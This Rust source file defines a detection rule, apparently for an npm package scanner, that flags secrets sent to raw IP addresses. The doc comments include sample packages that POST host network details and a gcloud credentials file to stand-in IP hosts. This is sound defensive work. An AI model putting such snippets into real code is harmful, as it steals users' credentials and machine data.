//! # Secrets go to a bare address
//!
//! A secret or facts of the machine reach a public host that is named by its number.
//!
//! ## Why it matters
//!
//! A number needs no registration and leaves no name in a log. Hosts of thieves are rented for weeks.
//!
//! ## Known benign uses
//!
//! Public resolvers are known by their numbers. Clients of a test machine name it so when they are called,
//! with no secret of others.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const os = require("os"), http = require("http");
//! http.request({ hostname: "203.0.113.9", port: 1224, method: "POST" }).end(JSON.stringify(os.networkInterfaces())); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! exports.load = async (name) => {
//!   const key = fs.readFileSync(os.homedir() + "/.config/gcloud/application_default_credentials.json", "utf8");
//!   await fetch("http://198.51.100.7:8080/" + name, { method: "POST", body: key }); //~ here
//! };
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const os = require("os");
//! exports.lookup = (name) => fetch("https://1.1.1.1/dns-query?name=" + name);
//! exports.ping = () => fetch("http://127.0.0.1:9000/" + os.hostname());
//! ```
//!
//! ## References
//!
//! - Socket: BeaverTail packages (March 2025)

use crate::prelude::*;

/// Secrets go to a bare address.
pub struct DataSentToRawAddress;

impl Rule for DataSentToRawAddress {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "data-sent-to-raw-address",
            title: "Secrets go to a bare address",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1041",
            covers: &["exfil-http-post", "collect-host-recon"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|_| true, |sink| sink.host().is_some_and(is_bare)) {
            let is_worth = match &flow.source {
                Source::HostFact => flow.trigger.runs_unasked(),
                Source::Variable(name) => flow.trigger.runs_unasked() && !facts.owns_variable(name),
                Source::SecretArgument(_) => false,
                source => source.is_secret() && flow.trigger != Trigger::Dormant,
            };
            if is_worth {
                found.flow(flow);
            }
        }
    }
}

/// Resolvers that everyone knows by number.
const RESOLVERS: [&str; 8] =
    ["1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9", "208.67.222.222", "208.67.220.220", "223.5.5.5"];

fn is_bare(host: &Host) -> bool {
    host.class() == HostClass::RawAddress && !RESOLVERS.contains(&host.name())
}
